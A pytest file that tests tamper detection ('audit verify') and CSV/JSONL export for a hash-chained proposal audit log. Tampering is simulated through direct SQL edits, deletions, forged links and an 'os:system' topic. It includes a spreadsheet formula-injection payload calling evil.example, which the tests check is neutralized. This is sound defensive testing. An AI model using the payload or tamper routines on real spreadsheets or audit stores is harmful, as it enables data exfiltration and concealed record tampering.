"""``audit verify`` proves no stored proposal event was altered or removed; ``audit export``
streams the audit trail. Tampering is done directly in SQL, as an attacker or a bad migration
with database access would, on both backends."""

from __future__ import annotations

import copy
import csv
import io
import json
import sqlite3
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any, get_args
from uuid import UUID

import psycopg
import pytest
from countersign.domain.hash_chain import chain_link
from countersign.infrastructure.audit.export import COLUMNS
from countersign.infrastructure.audit.verify import PROBLEMS, verify
from countersign.infrastructure.bootstrap import Countersign, bootstrap
from countersign.infrastructure.entrypoints.cli import audit_words, main
from countersign.infrastructure.identity.passkeys import AssertionProblem
from countersign.infrastructure.settings import Settings

from tests.conftest import AVA, DRAFT, MIA, REFUND, TO_CARD, events_table

MALLORY = "mallory@evil.example"
DRAFT_REQUEST = {"filters": {"leagues": ["Thursday Seniors"]}, "subject": "Hi", "body": "Hello"}
PROPOSAL_TOPIC = "countersign.domain.proposal:Proposal."
# What a proposal event's link covers is everything but its envelope (Proposal.propose/_link),
# and a Proposed event's seal (outside the link it seals).
ENVELOPE = {"originator_id", "originator_version", "timestamp", "originator_topic", "chain", "seal"}

# The story's proposals, in log order, and their events.
LIFECYCLES = {
    "refunded": ["Proposed", "Approved", "Claimed", "Revalidated", "Succeeded"],
    "declined": ["Proposed", "Declined", "RevisionRequired"],
    "stale": ["Proposed", "Approved", "Claimed", "RevisionRequired"],
    "maple": ["Proposed"],
}
PROPOSALS = len(LIFECYCLES)
EVENTS = sum(len(types) for types in LIFECYCLES.values())

CHAIN_MISMATCH = "content or time does not match its hash-chain link"
AUDIT_MISMATCH = "link differs from the audit trail's copy"


@pytest.fixture
def story(cs: Countersign, seeded: dict[str, Any]) -> dict[str, str]:
    """Four proposals with different lifecycles; returns their ids by name."""
    orders = seeded["orders"]
    refunded = cs.proposals.propose(
        organization="granite",
        actor=AVA,
        operation=REFUND,
        resource_id=orders["refund-ok"],
        request=TO_CARD,
    ).proposal_id
    assert cs.proposals.approve(refunded, AVA).status == "succeeded"

    declined = cs.proposals.propose(
        organization="granite",
        actor=AVA,
        operation=DRAFT,
        resource_id=seeded["broadcast_forms"]["granite"],
        request=DRAFT_REQUEST,
    ).proposal_id
    assert cs.proposals.decline(declined, AVA, note="Wrong leagues").status == "declined"

    stale = cs.proposals.propose(
        organization="granite",
        actor=AVA,
        operation=REFUND,
        resource_id=orders["refund-stale"],
        request=TO_CARD,
    ).proposal_id
    cs.club.refund_manually("granite", orders["refund-stale"], AVA, "P1", 34500)
    assert cs.proposals.approve(stale, AVA).status == "revision_required"

    maple = cs.proposals.propose(
        organization="maple",
        actor=MIA,
        operation=REFUND,
        resource_id=orders["maple-refund"],
        request=TO_CARD,
    ).proposal_id

    ids = {"refunded": refunded, "declined": declined, "stale": stale, "maple": maple}
    for name, types in LIFECYCLES.items():
        assert [e["type"] for e in cs.audit.history(ids[name])["events"]] == types
    return ids


# -- helpers ----------------------------------------------------------------------------------


def _sql(cs: Countersign, statement: str, *params: Any) -> list[tuple[Any, ...]]:
    """Run one statement on the event table directly ('{table}', '?' placeholders)."""
    statement = statement.format(table=events_table(cs))
    if cs.database.kind == "sqlite":
        values = [p.hex if isinstance(p, UUID) else p for p in params]
        conn = sqlite3.connect(cs.database.sqlite_path)
        try:
            rows = conn.execute(statement, values).fetchall()
            conn.commit()
        finally:
            conn.close()
        return rows
    db = cs.database
    with psycopg.connect(host=db.host, port=db.port, user=db.user, dbname=db.dbname) as conn:
        cursor = conn.execute(statement.replace("?", "%s"), params)
        return cursor.fetchall() if cursor.description else []


def _unchanged(state: dict[str, Any]) -> None:
    return None


def _rewrite_state(
    cs: Countersign,
    proposal_id: str,
    version: int,
    change: Callable[[dict[str, Any]], None],
    chain: str | None = None,
) -> None:
    """Edit one stored event's JSON in place (and, for a forger, its chain link)."""
    key = UUID(proposal_id)
    select = "SELECT state FROM {table} WHERE originator_id=? AND originator_version=?"
    [(raw,)] = _sql(cs, select, key, version)
    state = json.loads(bytes(raw))
    change(state)
    if chain is not None:
        state["chain"] = chain
    update = "UPDATE {table} SET state=? WHERE originator_id=? AND originator_version=?"
    _sql(cs, update, json.dumps(state).encode(), key, version)


def _delete(cs: Countersign, proposal_id: str, version: int | None = None) -> None:
    if version is None:
        _sql(cs, "DELETE FROM {table} WHERE originator_id=?", UUID(proposal_id))
    else:
        _sql(
            cs,
            "DELETE FROM {table} WHERE originator_id=? AND originator_version=?",
            UUID(proposal_id),
            version,
        )


def _forge(
    cs: Countersign,
    proposal_id: str,
    version: int,
    change: Callable[[dict[str, Any]], None],
    *,
    through_the_end: bool = False,
) -> None:
    """A tamperer who read the code: edit one event and recompute its link with chain_link
    (and, with ``through_the_end``, every later link too, so the whole stored chain holds)."""
    events = list(cs.app.events.get(UUID(proposal_id)))
    previous = events[version - 2].chain if version > 1 else ""
    stop = len(events) if through_the_end else version
    for event in events[version - 1 : stop]:
        at = event.originator_version
        content = copy.deepcopy({k: v for k, v in vars(event).items() if k not in ENVELOPE})
        edit = change if at == version else _unchanged
        edit(content)
        link = chain_link(previous, at, type(event).__name__, content, event.timestamp)
        _rewrite_state(cs, proposal_id, at, edit, chain=link)
        previous = link


def _catch_up_audit(cs: Countersign) -> None:
    cs.projection_runners(["audit_trail"])[0].catch_up()


def _verify(cs: Countersign) -> dict[str, Any]:
    """verify() with the test's own application, checked against a fresh process's view: the
    aggregate cache must play no part (verify reads the stored events)."""
    report = verify(cs.app, cs.sql).to_json()
    other = bootstrap(Settings(database_url=cs.settings.database_url), clock=cs.clock)
    try:
        assert verify(other.app, other.sql).to_json() == report
    finally:
        other.close()
    return report


def _cli(database_url: str, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[str, str]:
    capsys.readouterr()
    code = main([*argv, "--json", "--database", database_url])
    captured = capsys.readouterr()
    assert code == 0, captured
    return captured.out, captured.err


def _cli_verify(database_url: str, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    """``audit verify --json``'s report; its exit status is 0 when sound, 5 when broken."""
    capsys.readouterr()
    code = main(["audit", "verify", "--json", "--database", database_url])
    captured = capsys.readouterr()
    document: dict[str, Any] = json.loads(captured.out)
    assert code == (0 if document["ok"] else 5), captured
    return document


def _broken(report: dict[str, Any]) -> tuple[str, int | None, str]:
    assert report["ok"] is False
    link = report["first_broken_link"]
    return link["proposal_id"], link["version"], link["problem"]


def _set_approved_by(state: dict[str, Any]) -> None:
    state["approved_by"] = MALLORY


def _set_declined_by(state: dict[str, Any]) -> None:
    state["declined_by"] = MALLORY


def _set_preview_amount(state: dict[str, Any]) -> None:
    state["preview"]["amount_cents"] = 48000


def _set_outcome_amount(state: dict[str, Any]) -> None:
    state["outcome"]["result"]["amount_cents"] = 48000


def _set_revision_payment(state: dict[str, Any]) -> None:
    state["outcome"]["reason"]["params"]["payment"] = "Mastercard •••• 0000"


def _set_unprintable_reason(state: dict[str, Any]) -> None:
    # A code whose text needs other parameters: the audit trail cannot summarize the event.
    state["outcome"]["reason"]["code"] = "audience_changed"


EDITS = {
    "approved_by": ("refunded", 2, _set_approved_by),
    "preview_amount": ("refunded", 1, _set_preview_amount),
    "declined_by": ("declined", 2, _set_declined_by),
    "succeeded_amount": ("refunded", 5, _set_outcome_amount),
    "revision_payment": ("stale", 4, _set_revision_payment),
}
MIDDLE_EDITS = ["approved_by", "preview_amount", "declined_by"]
LAST_EDITS = ["succeeded_amount", "revision_payment"]


# -- an untouched store -----------------------------------------------------------------------


def test_an_untouched_store_verifies_and_counts_every_proposal_and_event(cs, story):
    expected = {
        "ok": True,
        "proposals_checked": PROPOSALS,
        "events_checked": EVENTS,
        "events_with_unlinked_times": 0,
        "streams_not_read": {},
        "first_broken_link": None,
        "broken_proposals": 0,
        "broken_links": [],
        "malformed_keys": [],
        "malformed_key_count": 0,
        "snapshots": {"ok": True, "checked": 0, "not_as_events": 0, "differences": []},
    }
    assert _verify(cs) == expected  # before the audit trail exists: the chain alone
    _catch_up_audit(cs)
    assert _verify(cs) == expected  # and cross-checked against the audit trail's copy


def test_the_cli_verifies_an_untouched_store(cs, story, database_url, capsys):
    assert _cli_verify(database_url, capsys) == {
        "ok": True,
        "proposals_checked": PROPOSALS,
        "events_checked": EVENTS,
        "events_with_unlinked_times": 0,
        "streams_not_read": {},
        "first_broken_link": None,
        "broken_proposals": 0,
        "broken_links": [],
        "malformed_keys": [],
        "malformed_key_count": 0,
        "snapshots": {"ok": True, "checked": 0, "not_as_events": 0, "differences": []},
    }
    # It caught the audit trail up first: every event now has its audited link.
    assert len(list(cs.read_models.audit_trail())) == EVENTS


# -- edited content ---------------------------------------------------------------------------


@pytest.mark.parametrize("audited_first", [False, True], ids=["unaudited", "audited"])
@pytest.mark.parametrize("edit", list(EDITS))
def test_an_edited_field_breaks_exactly_that_link(
    cs, story, database_url, capsys, edit, audited_first
):
    name, version, change = EDITS[edit]
    if audited_first:
        _catch_up_audit(cs)

    _rewrite_state(cs, story[name], version, change)

    report = _verify(cs)
    assert _broken(report) == (story[name], version, CHAIN_MISMATCH)
    assert report["broken_proposals"] == 1
    assert report["proposals_checked"] == PROPOSALS
    cli = _cli_verify(database_url, capsys)
    assert cli["ok"] is False
    assert cli["first_broken_link"] == report["first_broken_link"]


def test_the_first_broken_link_is_the_earliest_in_log_order(cs, story):
    _rewrite_state(cs, story["stale"], 2, _set_approved_by)
    _rewrite_state(cs, story["refunded"], 4, lambda s: s["facts"].update(refundable_cents=0))

    report = _verify(cs)

    assert _broken(report) == (story["refunded"], 4, CHAIN_MISMATCH)
    assert report["broken_proposals"] == 2
    assert report["proposals_checked"] == PROPOSALS


def test_the_cli_reports_an_edit_the_audit_trail_cannot_project(cs, story, database_url, capsys):
    """The CLI catches the audit trail up before verifying. An edited event the trail has not
    yet reached, and cannot summarize, must still be reported as a broken link (exit 5, the
    report in full), not turn ``audit verify`` into an internal ``projection_stopped`` error."""
    _rewrite_state(cs, story["stale"], 4, _set_unprintable_reason)
    report = _verify(cs)
    assert _broken(report) == (story["stale"], 4, CHAIN_MISMATCH)

    capsys.readouterr()
    code = main(["audit", "verify", "--json", "--database", database_url])
    document = json.loads(capsys.readouterr().out)

    assert (code, document) == (5, report)


def test_a_scheduled_check_tells_broken_from_sound_by_the_exit_status(
    cs, story, database_url, capsys
):
    """An auditor's cron job reads the status, not the words: 0 when every link holds, 5
    when one is broken, with the first broken link said on stderr either way it runs."""
    capsys.readouterr()
    assert main(["audit", "verify", "--database", database_url]) == 0
    sound = capsys.readouterr()
    assert sound.out.startswith("audit verify: OK")
    assert sound.err == ""

    _rewrite_state(cs, story["refunded"], 4, lambda s: s["facts"].update(refundable_cents=0))
    assert main(["audit", "verify", "--database", database_url]) == 5
    broken = capsys.readouterr()
    assert broken.out == ""
    assert broken.err == (
        "audit verify: BROKEN: 1 proposal affected, each at its first broken link:\n"
        f"  proposal {story['refunded']} version 4: {CHAIN_MISMATCH}\n"
        "  What to do: read each one with `countersign history ID` (what is stored now) and "
        'compare it with the same proposal in a backup made before (docs/deploy.md, "Backups '
        'and restore"); restore what was changed from it.\n'
    )


def test_an_event_with_a_tampered_topic_is_reported_unreadable(cs, story):
    _catch_up_audit(cs)
    key = UUID(story["declined"])
    _sql(
        cs,
        "UPDATE {table} SET topic=? WHERE originator_id=? AND originator_version=2",
        "os:system",
        key,
    )

    report = _verify(cs)

    proposal_id, version, problem = _broken(report)
    assert (proposal_id, version) == (story["declined"], 2)  # the event it is, named
    assert "unreadable" in problem


def _proposed_with_a_foreign_topic(cs: Any, seeded: dict[str, Any]) -> str:
    """A proposal whose one event (its Proposed) was given a topic countersign never reads."""
    hidden = cs.proposals.propose(
        organization="granite",
        actor=AVA,
        operation=REFUND,
        resource_id=seeded["orders"]["refund-two-approvers"],
        request=TO_CARD,
    ).proposal_id
    _sql(cs, "UPDATE {table} SET topic=? WHERE originator_id=?", "os:system", UUID(hidden))
    return str(hidden)


def test_a_proposal_whose_only_event_got_a_foreign_topic_is_not_lost_to_the_check(
    cs, seeded, story
):
    """Its Proposed event given a topic countersign never reads: every read skips it, and
    the audit trail (not caught up, or rebuilt since) holds no copy. The check reads the
    whole log for such topics, and names it."""
    hidden = _proposed_with_a_foreign_topic(cs, seeded)

    report = _verify(cs)

    assert _broken(report) == (hidden, 1, "stored event is unreadable (UnreadableEventError)")


def test_a_broken_link_carries_its_code_and_is_worded_from_it_in_french(
    cs, seeded, database_url, capsys
):
    """--json gives each broken link's ``code`` and the fields its words name (the error
    met), keeping the English ``problem``; ``--language fr`` words it from the code."""
    hidden = _proposed_with_a_foreign_topic(cs, seeded)

    assert _cli_verify(database_url, capsys)["first_broken_link"] == {
        "proposal_id": hidden,
        "version": 1,
        "code": "event_unreadable",
        "error": "UnreadableEventError",
        "problem": "stored event is unreadable (UnreadableEventError)",
    }
    assert main(["audit", "verify", "--language", "fr", "--database", database_url]) == 5
    assert capsys.readouterr().err.splitlines()[1] == (
        f"  proposition {hidden} version 1 : l'événement enregistré est illisible "
        "(UnreadableEventError)"
    )


def test_every_problem_the_check_can_name_has_words_in_english_and_french():
    """Each code a broken link can carry (verify.PROBLEMS, the passkey assertion's included)
    is worded on the terminal in both languages, the English as --json gives it: a new
    problem cannot stay English under --language fr."""
    assert set(get_args(AssertionProblem)) <= set(PROBLEMS)
    assert set(audit_words.LINK_PROBLEMS) == set(PROBLEMS)
    for code, english in PROBLEMS.items():
        said = audit_words.LINK_PROBLEMS[code]
        # (a malformed key's words name its log position and stored value too)
        fields = {"error": "KeyError", "position": 7, "value": "'zz'"}
        assert said.text("en", **fields) == english.format(**fields)
        assert said.fr not in ("", said.en)
        assert said.text("fr", **fields).count("KeyError") == english.count("{error}")
        assert said.text("fr", **fields).count("'zz'") == english.count("{value}")


def test_an_envelope_edit_the_chain_does_not_cover_is_found_by_replaying(cs, story):
    """An event written before times were linked has its time outside its link: without
    it every link holds, yet the proposal cannot be read. The check replays each stream as a
    read would. (Since times are linked, a removed time breaks its link.)"""
    _unlink_times(cs, story["declined"])
    _catch_up_audit(cs)
    _rewrite_state(cs, story["refunded"], 1, lambda state: state.pop("timestamp"))
    _rewrite_state(cs, story["declined"], 1, lambda state: state.pop("timestamp"))

    report = _verify(cs)

    assert report["broken_links"][0] == {
        "proposal_id": story["refunded"],
        "version": 1,
        "code": "link_mismatch",
        "problem": CHAIN_MISMATCH,
    }
    replayed = report["broken_links"][1]
    assert (replayed["proposal_id"], replayed["version"]) == (story["declined"], 1)
    assert replayed["problem"].startswith(
        ("stored event does not replay", "stored event is unreadable")
    )


# -- removed events ---------------------------------------------------------------------------


def test_a_removed_middle_event_is_a_version_gap(cs, story, database_url, capsys):
    _delete(cs, story["refunded"], 3)

    report = _verify(cs)

    proposal_id, version, problem = _broken(report)
    assert (proposal_id, version) == (story["refunded"], 3)
    assert "version gap" in problem
    assert report["broken_proposals"] == 1
    cli = _cli_verify(database_url, capsys)  # catching the trail up over the gap is fine
    assert cli["first_broken_link"] == report["first_broken_link"]


@pytest.mark.parametrize("name", ["refunded", "declined", "stale", "maple"])
def test_a_removed_last_event_the_audit_trail_saw_is_reported(
    cs, story, database_url, capsys, name
):
    _catch_up_audit(cs)
    last = len(LIFECYCLES[name])

    _delete(cs, story[name], last)

    report = _verify(cs)
    proposal_id, version, problem = _broken(report)
    assert (proposal_id, version) == (story[name], last)
    assert "removed" in problem
    assert report["broken_proposals"] == 1
    assert _cli_verify(database_url, capsys)["first_broken_link"] == report["first_broken_link"]


def test_a_removed_proposal_the_audit_trail_saw_is_reported(cs, story, database_url, capsys):
    _catch_up_audit(cs)

    _delete(cs, story["declined"])

    report = _verify(cs)
    proposal_id, version, problem = _broken(report)
    assert (proposal_id, version) == (story["declined"], 1)
    assert "removed" in problem
    assert report["proposals_checked"] == PROPOSALS  # still checked, found through the trail
    assert report["broken_proposals"] == 1
    assert _cli_verify(database_url, capsys)["first_broken_link"] == report["first_broken_link"]


# -- forged links -----------------------------------------------------------------------------


@pytest.mark.parametrize("edit", MIDDLE_EDITS)
def test_a_forged_link_breaks_the_next_link(cs, story, database_url, capsys, edit):
    name, version, change = EDITS[edit]

    _forge(cs, story[name], version, change)

    report = _verify(cs)
    assert _broken(report) == (story[name], version + 1, CHAIN_MISMATCH)
    assert report["broken_proposals"] == 1
    # The CLI catches the trail up over the forged event first: the next link still breaks.
    assert _cli_verify(database_url, capsys)["first_broken_link"] == report["first_broken_link"]


@pytest.mark.parametrize("edit", MIDDLE_EDITS + LAST_EDITS)
def test_a_forged_link_the_audit_trail_saw_differs_from_its_copy(cs, story, edit):
    name, version, change = EDITS[edit]
    _catch_up_audit(cs)

    _forge(cs, story[name], version, change)

    report = _verify(cs)
    assert _broken(report) == (story[name], version, AUDIT_MISMATCH)
    assert report["broken_proposals"] == 1


@pytest.mark.parametrize("edit", MIDDLE_EDITS)
def test_a_wholly_reforged_chain_is_caught_by_the_audit_trail(cs, story, edit):
    name, version, change = EDITS[edit]
    _catch_up_audit(cs)

    _forge(cs, story[name], version, change, through_the_end=True)

    # The stored chain is self-consistent again; only the audit trail's copy tells.
    events = list(cs.app.events.get(UUID(story[name])))
    previous = ""
    for event in events:
        content = {k: v for k, v in vars(event).items() if k not in ENVELOPE}
        previous = chain_link(
            previous, event.originator_version, type(event).__name__, content, event.timestamp
        )
        assert event.chain == previous
    report = _verify(cs)
    assert _broken(report) == (story[name], version, AUDIT_MISMATCH)


# -- audit export -----------------------------------------------------------------------------


def _proposal_notifications(cs: Countersign) -> list[tuple[int, str, int, str]]:
    """(position, proposal id, version, event type) of every proposal event, in log order."""
    found = []
    start = 1
    while True:
        batch = cs.app.recorder.select_notifications(start, limit=1000)
        if not batch:
            return found
        found += [
            (n.id, str(UUID(str(n.originator_id))), n.originator_version, n.topic.rsplit(".")[-1])
            for n in batch
            if n.topic.startswith(PROPOSAL_TOPIC)
        ]
        start = batch[-1].id + 1


def _export(database_url, capsys, *options: str) -> tuple[str, str]:
    return _cli(database_url, capsys, "audit", "export", *options)


def test_jsonl_export_prints_one_object_per_audited_event_in_log_order(
    cs, story, seeded, database_url, capsys
):
    out, err = _export(database_url, capsys, "--format", "jsonl")

    rows = [json.loads(line) for line in out.splitlines()]
    assert len(rows) == EVENTS
    assert f"{EVENTS} rows" in err
    assert all(list(row) == COLUMNS for row in rows)  # no wrapper, the documented columns
    assert [(r["position"], r["proposal_id"], r["version"], r["event_type"]) for r in rows] == (
        _proposal_notifications(cs)
    )
    orgs = {o["slug"]: o["id"] for o in seeded["organizations"]}
    for name, types in LIFECYCLES.items():
        mine = [r for r in rows if r["proposal_id"] == story[name]]
        assert [r["event_type"] for r in mine] == types
        assert [r["version"] for r in mine] == list(range(1, len(types) + 1))
        stored = list(cs.app.events.get(UUID(story[name])))
        assert [r["chain"] for r in mine] == [e.chain for e in stored]
        org = orgs["maple" if name == "maple" else "granite"]
        assert {r["organization_id"] for r in mine} == {org}
    refunded = [r for r in rows if r["proposal_id"] == story["refunded"]]
    assert refunded[0]["operation"] == REFUND
    assert [r["actor"] for r in refunded[:2]] == [AVA, AVA]
    assert refunded[0]["summary"] == f"proposed {REFUND}"
    declined = [r for r in rows if r["proposal_id"] == story["declined"]]
    assert (declined[1]["actor"], declined[1]["summary"]) == (AVA, "declined")
    assert all(isinstance(r["at"], str) and r["at"] for r in rows)


def test_csv_export_has_a_header_and_the_same_rows(cs, story, database_url, capsys):
    jsonl, _ = _export(database_url, capsys, "--format", "jsonl")
    out, err = _export(database_url, capsys, "--format", "csv")

    reader = csv.DictReader(io.StringIO(out))
    assert reader.fieldnames == COLUMNS
    rows = list(reader)
    assert len(rows) == EVENTS
    assert f"{EVENTS} rows" in err
    expected = [json.loads(line) for line in jsonl.splitlines()]
    assert [(r["proposal_id"], int(r["version"]), r["chain"]) for r in rows] == [
        (r["proposal_id"], r["version"], r["chain"]) for r in expected
    ]


def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text():
    """A member's address may begin with "=" (it is a valid e-mail address): opened in an
    auditor's spreadsheet, the CSV ran it as a formula. JSON lines keep it as stored."""
    from datetime import UTC, datetime

    from countersign.infrastructure.audit.export import write_export

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")@granite.example'
    row = {
        "position": 7,
        "at": datetime(2026, 12, 6, tzinfo=UTC),
        "organization_id": "o",
        "proposal_id": "p",
        "version": 1,
        "operation": "order.refund_missing_discount",
        "event_type": "Approved",
        "actor": hostile,
        "summary": "+1 approved",
        "chain": "ab",
    }
    out = io.StringIO()
    assert write_export([row], "csv", out) == 1
    [written] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert written["actor"] == "'" + hostile
    assert written["summary"] == "'+1 approved"
    assert (written["position"], written["chain"]) == ("7", "ab")
    lines = io.StringIO()
    write_export([row], "jsonl", lines)
    assert json.loads(lines.getvalue())["actor"] == hostile


def test_export_by_organization_holds_nothing_of_another(cs, story, seeded, database_url, capsys):
    orgs = {o["slug"]: o["id"] for o in seeded["organizations"]}

    maple_out, _ = _export(database_url, capsys, "--org", "maple")
    granite_out, _ = _export(database_url, capsys, "--org", "granite")

    maple = [json.loads(line) for line in maple_out.splitlines()]
    granite = [json.loads(line) for line in granite_out.splitlines()]
    assert {r["proposal_id"] for r in maple} == {story["maple"]}
    assert {r["organization_id"] for r in maple} == {orgs["maple"]}
    assert len(maple) == len(LIFECYCLES["maple"])
    assert story["maple"] not in {r["proposal_id"] for r in granite}
    assert {r["organization_id"] for r in granite} == {orgs["granite"]}
    assert len(granite) == EVENTS - len(LIFECYCLES["maple"])


def test_export_since_a_future_time_is_empty(cs, story, database_url, capsys):
    out, err = _export(database_url, capsys, "--since", "2999-01-01T00:00Z")
    assert out == ""
    assert "0 rows" in err

    out, _ = _export(database_url, capsys, "--since", "2999-01-01T00:00Z", "--format", "csv")
    assert out.splitlines() == [",".join(COLUMNS)]

    everything, _ = _export(database_url, capsys, "--since", "2000-01-01T00:00Z")
    assert len(everything.splitlines()) == EVENTS


def test_export_by_proposal_by_actor_and_between_two_times(cs, story, database_url, capsys):
    """An auditor asks for one proposal's rows, one person's, one stretch of time: the
    export could filter by club and a start only (the trail's reads took the rest)."""
    everything = [json.loads(line) for line in _export(database_url, capsys)[0].splitlines()]

    # an id as a person may copy it (upper case) reads the trail's own form of it
    out, _ = _export(database_url, capsys, "--proposal", story["declined"].upper())
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["event_type"] for r in rows] == LIFECYCLES["declined"]
    assert {r["proposal_id"] for r in rows} == {story["declined"]}

    out, _ = _export(database_url, capsys, "--actor", MIA.upper(), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["proposal_id"], r["event_type"]) for r in rows] == [(story["maple"], "Proposed")]

    out, _ = _export(database_url, capsys, "--org", "granite", "--actor", MIA)
    assert out == ""  # nothing of another club

    # since is inclusive, until exclusive: the rows of one proposal's stretch of the log
    refunded = [r for r in everything if r["proposal_id"] == story["refunded"]]
    since, until = refunded[0]["at"], refunded[-1]["at"]
    out, _ = _export(database_url, capsys, "--since", since, "--until", until)
    rows = [json.loads(line) for line in out.splitlines()]
    assert rows == [r for r in everything if since <= r["at"] < until]
    assert rows[0] == refunded[0]
    assert refunded[-1] not in rows


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["--proposal", "not-an-id"], "error: 'not-an-id' is not a proposal id\n"),
        (["--until", "soon"], "error: 'soon' is not an ISO time like 2026-11-30T09:00Z\n"),
        # a time whose UTC is off the calendar: SQLite's export stopped on it with a stack
        # trace on stderr and "Internal error", exit 1 (an auditor's finding)
        (
            ["--since", "0001-01-01T00:00+05:00"],
            "error: '0001-01-01T00:00+05:00' is out of range: in UTC it falls outside the years"
            " 1 to 9999\n",
        ),
        (
            ["--until", "9999-12-31T23:59-05:00", "--format", "csv"],
            "error: '9999-12-31T23:59-05:00' is out of range: in UTC it falls outside the years"
            " 1 to 9999\n",
        ),
    ],
)
def test_an_export_filter_it_cannot_read_is_a_usage_error(
    cs, story, database_url, capsys, argv, said
):
    capsys.readouterr()
    status = main(["audit", "export", *argv, "--database", database_url])
    out, err = capsys.readouterr()
    assert (status, out) == (2, "")
    assert err.startswith(said)


def test_history_times_each_event_when_it_was_recorded_as_the_trail_does(
    cs, seeded, clock, database_url, capsys
):
    """An expiry's own ``at`` (when the process that recorded it read its clock) took the
    place of the event's time in the history: the history and the export gave the Expired
    event two times, and the demo's history showed it before its own Proposed (an auditor's
    finding). Each event's ``at`` is when it was recorded; the expiry's own is ``expired_at``."""
    pid = cs.proposals.propose(
        organization="granite",
        actor=AVA,
        operation=REFUND,
        resource_id=seeded["orders"]["refund-ok"],
        request=TO_CARD,
    ).proposal_id
    clock.advance(days=2)
    assert cs.proposals.approve(pid, AVA).reason == "expired"
    stored = list(cs.app.events.get(UUID(pid)))
    assert stored[-1].at != stored[-1].timestamp  # the clock's time, not the log's

    events = cs.audit.history(pid)["events"]
    assert [(e["type"], e["at"]) for e in events] == [
        (type(e).__name__, e.timestamp.isoformat()) for e in stored
    ]
    assert events[-1]["expired_at"] == stored[-1].at
    out, _ = _export(database_url, capsys, "--proposal", pid)
    assert [json.loads(line)["at"] for line in out.splitlines()] == [e["at"] for e in events]


# -- events' times ------------------------------------------------------------------------------


def _set_time(when: str) -> Callable[[dict[str, Any]], None]:
    def change(state: dict[str, Any]) -> None:
        state["timestamp"]["_data_"] = when

    return change


@pytest.mark.parametrize(("name", "version"), [("refunded", 1), ("refunded", 2), ("stale", 4)])
def test_a_changed_event_time_breaks_exactly_that_link(cs, story, name, version):
    """An approval dated before its proposal, a claim an hour later: an event's time is part
    of its link, so a changed time is found like changed content (an auditor's finding: it
    verified, and the history and analytics showed the forged time)."""
    _catch_up_audit(cs)
    _rewrite_state(cs, story[name], version, _set_time("2020-01-01T00:00:00+00:00"))
    assert _broken(_verify(cs)) == (story[name], version, CHAIN_MISMATCH)


def test_a_time_moved_by_a_microsecond_is_found(cs, story):
    [(raw,)] = _sql(
        cs,
        "SELECT state FROM {table} WHERE originator_id=? AND originator_version=2",
        UUID(story["declined"]),
    )
    written = json.loads(bytes(raw))["timestamp"]["_data_"]
    later = datetime.fromisoformat(written) + timedelta(microseconds=1)
    _rewrite_state(cs, story["declined"], 2, _set_time(later.isoformat()))
    assert _broken(_verify(cs)) == (story["declined"], 2, CHAIN_MISMATCH)


def _unlink_times(cs: Countersign, proposal_id: str) -> int:
    """Rewrite a proposal's links as they were made before events' times were linked (the
    fields alone): what a store written before 2026-12-06 holds."""
    events = list(cs.app.events.get(UUID(proposal_id)))
    previous = ""
    for event in events:
        content = {k: v for k, v in vars(event).items() if k not in ENVELOPE}
        link = chain_link(previous, event.originator_version, type(event).__name__, content)
        _rewrite_state(cs, proposal_id, event.originator_version, _unchanged, chain=link)
        previous = link
    return len(events)


def test_links_made_before_times_were_linked_still_verify_and_are_counted(cs, story):
    """A store written before times were linked verifies as before; the report says how many
    events' times it cannot prove, and their content is still proved."""
    unlinked = _unlink_times(cs, story["refunded"])
    report = _verify(cs)
    assert report["ok"] is True
    assert report["events_with_unlinked_times"] == unlinked == 5

    _rewrite_state(cs, story["refunded"], 2, _set_approved_by)
    assert _broken(_verify(cs)) == (story["refunded"], 2, CHAIN_MISMATCH)


def test_the_cli_says_which_times_it_cannot_prove(cs, story, database_url, capsys):
    _unlink_times(cs, story["declined"])
    capsys.readouterr()
    assert main(["audit", "verify", "--database", database_url]) == 0
    assert capsys.readouterr().out == (
        f"audit verify: OK, {EVENTS} events of {PROPOSALS} proposals; every hash-chain link"
        " holds. 3 events written before events' times were linked: their content is proved,"
        " their times are not.\n"
    )


def test_every_broken_proposal_is_named(cs, story, database_url, capsys):
    """Two proposals broken: the report names each at its first broken link, in log order,
    on the terminal and in --json (an auditor could see only the first)."""
    _rewrite_state(cs, story["declined"], 2, _set_declined_by)
    _rewrite_state(cs, story["refunded"], 5, _set_outcome_amount)
    report = _verify(cs)
    assert report["broken_proposals"] == 2
    named = [(b["proposal_id"], b["version"]) for b in report["broken_links"]]
    assert named == [(story["refunded"], 5), (story["declined"], 2)]
    assert report["first_broken_link"] == report["broken_links"][0]
    capsys.readouterr()
    assert main(["audit", "verify", "--database", database_url]) == 5
    err = capsys.readouterr().err
    for proposal_id, version in named:
        assert f"  proposal {proposal_id} version {version}: " in err


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["--org", "nosuch", "--format", "csv"], "error: no club is named 'nosuch'\n"),
        (["--since", "garbage"], "error: 'garbage' is not an ISO time like 2026-11-30T09:00Z\n"),
        (["--json", "--org", "nosuch"], "error: no club is named 'nosuch'\n"),
    ],
)
def test_an_export_that_cannot_run_writes_nothing_among_the_rows(
    cs, story, database_url, capsys, argv, said
):
    """An unknown club's "Not found." went into the CSV file, with exit status 0 (an
    auditor's finding): a script took it for the export."""
    capsys.readouterr()
    status = main(["audit", "export", *argv, "--database", database_url])
    out, err = capsys.readouterr()
    assert status == 2
    assert err.startswith(said)
    if "--json" in argv:  # its one document is the error, as every command's
        assert json.loads(out)["error"] == "usage"
    else:
        assert out == ""


def test_export_json_is_its_rows_as_json_lines(cs, story, database_url, capsys):
    capsys.readouterr()
    assert main(["audit", "export", "--json", "--database", database_url]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == EVENTS
    assert {json.loads(line)["event_type"] for line in lines} >= {"Proposed", "Succeeded"}


def test_a_long_verify_shows_its_progress_and_a_short_one_stays_silent(
    cs, seeded, database_url, capsys, monkeypatch
):
    """``audit verify`` reads each proposal's events in turn, with no timeout: minutes on a
    large log, and it said nothing until its verdict, while the rebuild showed its progress."""
    from countersign.infrastructure.entrypoints.cli import projections

    from tests.support.proposing import propose

    propose(cs, seeded)
    capsys.readouterr()
